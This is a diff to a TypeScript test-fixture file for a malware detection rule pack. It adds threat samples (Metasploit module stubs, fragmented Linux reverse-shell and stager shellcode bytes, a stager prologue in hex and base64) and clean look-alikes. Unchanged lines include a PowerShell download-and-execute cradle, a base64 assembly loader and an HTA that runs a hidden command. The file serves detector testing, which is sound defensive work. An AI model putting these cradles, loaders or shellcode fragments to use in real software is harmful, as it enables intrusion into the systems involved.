@@ -58,6 +58,40 @@ const pshLoader =
 const asmLoad = `[System.Reflection.Assembly]::Load([Convert]::FromBase64String('${blob}')) | Out-Null\n`;
 const asmLoadVar = `$b = [Convert]::FromBase64String('${blob}')\n[Reflection.Assembly]::Load($b) | Out-Null\n`;
 
+// Metasploit Framework files: an exploit module, a payload module, the msfconsole launcher
+const msfModule =
+  'class MetasploitModule < Msf::Exploit::Remote\n  Rank = ExcellentRanking\n  include Msf::Exploit::Remote::HttpClient\n' +
+  "  def initialize(info = {})\n    super(update_info(info, 'Name' => 'x'))\n    register_options([Opt::RPORT(8080)])\n  end\nend\n";
+const msfPayloadModule =
+  'module MetasploitModule\n  CachedSize = 74\n  include Msf::Payload::Single\n  include Msf::Payload::Linux\nend\n';
+const msfConsole =
+  "#!/usr/bin/env ruby\nrequire 'msfenv'\nrequire 'metasploit/framework/command/console'\nMetasploit::Framework::Command::Console.start\n";
+const gemMentioningMsf =
+  '# Imports scan results (Nmap, Nessus, Metasploit exports of Msf::Exploit runs) into the tracker.\n' +
+  'module Tracker\n  class MetasploitImporter\n    def call(xml) = parse(xml)\n  end\nend\n';
+
+/**
+ * Instruction sequences of Linux shellcode, kept apart by filler text so that no runnable code is
+ * written: x86 socketcall(SYS_SOCKET) and a pushed "/bin//sh"; the x64 stager's mmap set-up and
+ * its socket call.
+ */
+const filler = Buffer.from(' -- not code -- ', 'latin1');
+const hex = (h: string) => Buffer.from(h.replace(/ /g, ''), 'hex');
+const lin32Shape = Buffer.concat([
+  hex('31 db f7 e3 53 43 53 6a 02 89 e1 b0 66 cd 80'),
+  filler,
+  hex('68 6e 2f 73 68 68 2f 2f 62 69 89 e3'),
+  filler,
+]);
+const lin64MmapShape = Buffer.concat([
+  hex('6a 09 58 99 b6 10 48 89 d6 4d 31 c9 6a 22 41 5a'),
+  filler,
+  hex('6a 29 58 99 6a 02 5f 6a 01 5e 0f 05'),
+  filler,
+]);
+/** The x64 stager's first 15 bytes (a prologue that calls nothing real), as text. */
+const x64StagerStart = hex('fc 48 83 e4 f0 e8 cc 00 00 00 41 51 41 50 52');
+
 const hta = (cmd: string) =>
   `<html><head><HTA:APPLICATION ID="x"><script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "${cmd}", 0\nself.close\n</script></head></html>\n`;
 
@@ -199,6 +233,27 @@ export const THREATS: Sample[] = [
     'd',
     `&('I'+'EX') ((New-Object Net.WebClient).('Download'+'String').Invoke('${U}'))\n`,
   ),
+  // 9. Metasploit Framework and raw Linux shellcode
+  threat('Metasploit exploit module', 'x.rb', msfModule),
+  threat('Metasploit payload module', 'shell_reverse_tcp.rb', msfPayloadModule),
+  threat('msfconsole launcher', 'msfconsole', msfConsole),
+  threat(
+    'x86 Linux reverse-shell shape in an ELF with sections',
+    'svc32',
+    fakeElf(lin32Shape, { sections: true }),
+  ),
+  threat(
+    'x64 Linux mmap stager shape in an ELF with sections',
+    'svc64m',
+    fakeElf(lin64MmapShape, { sections: true }),
+  ),
+  threat('x64 Linux mmap stager shape in an ELF without sections', 'svc', fakeElf(lin64MmapShape)),
+  threat('x64 stager start as bare hex digits', 'blob.hex', x64StagerStart.toString('hex') + '5648\n'),
+  threat(
+    'x64 stager start as base64, no decoder named',
+    'blob.b64',
+    b64(Buffer.concat([x64StagerStart, filler])) + '\n',
+  ),
 ];
 
 export const LEGITIMATE: Sample[] = [
@@ -279,6 +334,22 @@ export const LEGITIMATE: Sample[] = [
       Buffer.from('crash.dmp\0', 'utf16le'),
     ]),
   ),
+  clean('Ruby gem naming Metasploit and Msf::Exploit in a comment', 'importer.rb', gemMentioningMsf),
+  clean(
+    'Metasploit module template in documentation',
+    'writing-a-module.md',
+    '# Writing a module\n\n' + msfModule,
+  ),
+  clean(
+    'signature list with the stager start inside a longer hex run',
+    'local.ndb',
+    `Test.Sig-1:0:*:9090${x64StagerStart.toString('hex')}\n`,
+  ),
+  clean(
+    'ELF with the x64 socket call only',
+    'netd',
+    fakeElf(Buffer.concat([filler, lin64MmapShape.subarray(32)]), { sections: true }),
+  ),
 ];
 
 /** Samples of the rules this area adds to the pack. */
@@ -334,5 +405,9 @@ export const RULE_SAMPLES: Record<string, RuleSamples> = {
       ]),
       'd.exe',
     ),
+  },
+  'hacktool-metasploit-framework': {
+    positive: text(msfModule, 'x.rb'),
+    negative: text(gemMentioningMsf, 'importer.rb'),
   },
 };
